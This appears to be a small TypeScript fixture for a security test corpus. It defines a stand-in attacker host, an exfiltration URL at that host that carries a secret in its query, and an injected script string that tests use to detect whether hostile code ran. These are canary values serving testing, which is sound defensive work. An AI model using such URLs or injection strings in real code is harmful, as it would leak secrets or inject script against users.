/** What the cases of the corpus would like to reach. */

export const evil = "evil.example";

/** An address that learns a secret when anything asks for it. */
export const load = `https://${evil}/leak?q=secret`;

/** `pwned` is put into every page by the tests and notes who called it. */
export const run = "globalThis.pwned('x')";
